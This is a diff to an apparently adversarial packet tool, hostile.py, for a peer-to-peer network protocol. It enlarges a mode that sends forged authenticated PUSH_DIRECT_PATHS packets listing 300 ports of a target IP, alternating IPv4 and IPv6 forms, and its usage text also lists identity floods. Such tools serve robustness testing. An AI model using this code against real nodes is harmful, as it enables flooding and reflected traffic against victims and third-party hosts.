@@ -19,7 +19,8 @@ usage: hostile.py IP/PORT VICTIM.pub MODE ARGUMENT...
                          an authentic HELLO of ME, which is 1.MINOR.REVISION
   trusting ME            packets of ME under suite 2, one of each verb
   flood N                HELLOs of identities that do not exist
-  pushes ME IP N         N authentic PUSH_DIRECT_PATHS of 40 ports of IP
+  pushes ME IP N         N authentic PUSH_DIRECT_PATHS of 300 ports of IP, each
+                         second time as an IPv6 address
   echoes ME N            N authentic ECHOs of 64 bytes
   greetings ME N         N authentic HELLOs
 In the environment: SOURCE=IP/PORT to send from
@@ -197,9 +198,10 @@ def pushes(victim, me, target, count):
     me = packets.Identity(me)
     key = me.agree(victim)
     ports = itertools.count(1000)
+    forms = (b"\4\6", b"\6\x12" + bytes(10) + b"\xff\xff")
     for _ in range(int(count)):
-        entries = [b"\0\0\0\4\6" + socket.inet_aton(target) +
-                   (next(ports) % 60000).to_bytes(2, "big") for _ in range(40)]
+        entries = [bytes(3) + forms[i % 2] + socket.inet_aton(target) +
+                   (next(ports) % 60000).to_bytes(2, "big") for i in range(300)]
         yield packets.armor(key, victim.address, me.address,
                             b"\x10" + len(entries).to_bytes(2, "big") + b"".join(entries))
 
